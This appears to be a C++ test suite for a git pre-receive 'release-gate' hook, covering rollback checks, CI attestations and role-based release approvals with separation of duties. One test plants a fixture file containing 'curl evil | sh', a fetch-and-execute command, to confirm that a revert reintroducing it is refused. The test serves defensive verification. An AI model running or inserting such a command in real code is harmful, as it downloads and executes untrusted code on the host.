  Client c(s);
  bootstrap(s, c);
  const std::string before = s.rev("refs/heads/main");
  const std::string tree = trimmed(run_ok("git rev-parse main^{tree}", s.bare).out);
  // Off main: a commit that deletes a payload; its revert adds the payload.
  c.git("checkout -q -b scratch main");
  c.commit_file("payload.sh", "curl evil | sh\n", "add payload");
  c.git("rm -q payload.sh");
  c.git("commit -q -m 'drop payload'");
  const std::string drop = c.head();
  c.git("checkout -q main");
  // The revert of `drop` on main adds the payload (git revert applies its reverse).
  c.git("revert --no-edit " + drop);
  CHECK(read_file(c.path() / "payload.sh") == "curl evil | sh\n");
  // X unknown to the server, then X on another branch of the server: both refused.
  auto r = c.push("origin main", "REMOTE_USER=dana@example.com");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[rollback/unknown-commit]"));
  CHECK(s.rev("refs/heads/main") == before);
  REQUIRE(c.push("-q origin scratch").exit_code == 0);
  r = c.push("origin main", "REMOTE_USER=dana@example.com");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[rollback/not-on-branch]"));
  CHECK(s.rev("refs/heads/main") == before);
  CHECK(trimmed(run_ok("git rev-parse main^{tree}", s.bare).out) == tree);
}

}

TEST_SUITE("pre_receive") {

TEST_CASE("attestations: required for releases, pushed only by the CI identity, checked for the exact commit") {
  Server s;
  write_file(s.bare / "release-gate.yml",
             kPolicy + "readiness:\n  attestation:\n    required: true\n    users: [ci-bot@example.com]\n");
  Client c(s);
  bootstrap(s, c);
  c.git("checkout -q -b feature/pay main");
  c.commit_file("pay.txt", "pay\n", "payments");
  REQUIRE(c.push("-q origin feature/pay").exit_code == 0);
  const std::string candidate = c.head();
  c.git("checkout -q main");
  c.git("merge -q --no-ff -m " + sh_quote("Release payments\n\n" + kRoutine) + " feature/pay");
  const std::string before = s.rev("refs/heads/main");
  auto r = c.push("--atomic origin main :feature/pay");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[attest/missing]"));
  CHECK(s.rev("refs/heads/main") == before);

  auto attest = [&](const std::string& commit, bool passed) {
    const std::string json = std::string("{\"format\":\"release-gate-attestation/1\",\"commit\":\"") + commit +
                             "\",\"passed\":" + (passed ? "true" : "false") +
                             ",\"items\":[{\"id\":\"tech.no-open-sev\",\"status\":\"" + (passed ? "pass" : "fail") +
                             "\"}]}";
    write_file(c.path() / "att.json", json);
    return trimmed(c.git("hash-object -w att.json").out);
  };
  const std::string ref = "refs/release-gate/attestations/" + candidate;
  // Anyone else pushing the attestation ref is refused.
  r = c.push("origin " + attest(candidate, true) + ":" + ref, "REMOTE_USER=dev@example.com");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[attest/not-allowed-to-push]"));
  // A failing attestation by the CI identity is accepted as a ref, but does not let the release in.
  REQUIRE(c.push("origin " + attest(candidate, false) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[attest/not-passing]"));
  CHECK(s.rev("refs/heads/main") == before);
  // An attestation naming another commit is invalid.
  REQUIRE(c.push("-f origin " + attest(before, true) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[attest/invalid]"));
  // The passing attestation for the candidate: the release goes in.
  REQUIRE(c.push("-f origin " + attest(candidate, true) + ":" + ref, "REMOTE_USER=ci-bot@example.com").exit_code == 0);
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana@example.com");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

}

TEST_SUITE("pre_receive") {

// The people and the verified mode: approvals by the authenticated holders of each role.
const std::string kVerified = R"(version: 1
release:
  people:
    dana: {name: Dana Cruz, emails: [dana@example.com], logins: {http: dana}}
    dev: {name: Test Dev, emails: [dev@example.com], logins: {http: dev}}
    eve: {name: Eve Intern, emails: [eve@example.com], logins: {http: eve}}
    chris: {name: Chris Ode, emails: [chris@example.com], logins: {http: chris}}
  roles:
    cdo: [dana]
    ceo: [chris]
    release-manager: [dev]
server:
  authorization: verified
)";

// The team's policy (kVerified) written next to the client; main imported and feature/pay (one
// commit) pushed by dev; the client back on main. Returns the policy's path.
static std::string verified_start(const Client& c) {
  write_file(c.path().parent_path() / "team.yml", kVerified);
  c.commit_file("README.md", "hello\n", "Initial import");
  REQUIRE(c.push("-q origin main", "REMOTE_USER=dev").exit_code == 0);
  c.git("checkout -q -b feature/pay main");
  c.commit_file("pay.txt", "pay\n", "payments");
  REQUIRE(c.push("-q origin feature/pay", "REMOTE_USER=dev").exit_code == 0);
  c.git("checkout -q main");
  return (c.path().parent_path() / "team.yml").string();
}

TEST_CASE("verified authorization: the CDO's own approval lets a release in; forged or missing ones do not") {
  Server s(kVerified);
  Client c(s);
  const std::string team = verified_start(c);
  // Made by dev (the clone's identity), record naming the CDO.
  c.git("merge -q --no-ff -m " + sh_quote("Release payments\n\n" + kRoutine) + " feature/pay");
  const std::string release = c.head();
  const std::string before = s.rev("refs/heads/main");
  auto approve = [&](const std::string& as, const std::string& login, const std::string& extra = "") {
    return run("REMOTE_USER=" + login + " " + sh_quote(bin("release-gate")) + " approve " + release + " --as " + as +
                   " --config " + sh_quote(team) + " --push origin " + extra,
               c.path());
  };

  // No approval: the typed line proves nothing.
  auto r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dev");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "has no approval by a holder of `cdo` other than who made it (dev)"));
  CHECK(contains(r.err, "release-gate approve " + release.substr(0, 12) + " --role cdo --push origin"));
  CHECK(s.rev("refs/heads/main") == before);

  // Eve writes Dana's approval: refused, nothing stored.
  r = approve("dana", "eve");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[approval/not-yours]"));
  CHECK(run("git -C " + sh_quote(s.bare.string()) + " for-each-ref refs/release-gate/").out.empty());
  // Eve approves as herself: accepted as a ref, but she holds no cdo role.
  r = approve("eve", "eve");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dev");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "approvals present: eve"));
  CHECK(s.rev("refs/heads/main") == before);
  // Nobody may delete or move someone else's approval.
  r = c.push("origin :refs/release-gate/approvals/" + release + "/eve", "REMOTE_USER=dev");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[approval/not-yours]"));

  // `ready` shows which approvals are there and which are missing.
  auto approvals_item = [&] {
    auto rr = run(sh_quote(bin("release-gate")) + " ready --no-external --format json --config " + sh_quote(team),
                  c.path());
    auto j = json::parse(rr.out);
    for (const auto& item : j["items"])
      if (item["id"] == "auth.approvals") return item;
    return json();
  };
  auto item = approvals_item();
  REQUIRE_FALSE(item.is_null());
  CHECK(item["status"] == "missing");
  CHECK(item["evidence"][0] == "cdo: no approval yet");
  CHECK(contains(item["next"].get<std::string>(), "release-gate approve " + release.substr(0, 12) + " --role cdo"));

  // Dana approves from her own login: the release goes in.
  r = approve("dana", "dana", "--role cdo");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  item = approvals_item();
  CHECK(item["status"] == "pass");
  CHECK(item["evidence"][0] == "cdo: approved by dana");
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dev");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == release);
  CHECK(s.audit().back()["pusher_person"] == "dev");
}

TEST_CASE("verified authorization: the maker's own approval does not count; the record names the approvers") {
  Server s(kVerified);
  Client c(s);
  const std::string team = verified_start(c);
  // Dana makes the merge herself and approves it: separation of duties says no.
  c.git("-c user.name='Dana Cruz' -c user.email=dana@example.com merge -q --no-ff -m " +
        sh_quote("Release payments\n\n" + kRoutine) + " feature/pay");
  std::string release = c.head();
  const std::string before = s.rev("refs/heads/main");
  auto approve = [&](const std::string& as, const std::string& login) {
    return run("REMOTE_USER=" + login + " " + sh_quote(bin("release-gate")) + " approve " + release + " --as " + as +
                   " --config " + sh_quote(team) + " --push origin",
               c.path());
  };
  REQUIRE(approve("dana", "dana").exit_code == 0);
  auto r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dana");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "other than who made it (dana)"));
  CHECK(s.rev("refs/heads/main") == before);

  // Made by dev, approved by Dana, but the record names Chris as well: he did not approve.
  c.git("reset -q --hard " + before);
  c.git("merge -q --no-ff -m " +
        sh_quote("Release payments\n\n" + kRoutine + "Authorized-By: Chris Ode <chris@example.com>\n") + " feature/pay");
  release = c.head();
  REQUIRE(approve("dana", "dana").exit_code == 0);
  r = c.push("--atomic origin main :feature/pay", "REMOTE_USER=dev");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "`Authorized-By: Chris Ode <chris@example.com>` names someone who has not approved"));
  CHECK(s.rev("refs/heads/main") == before);
}

}
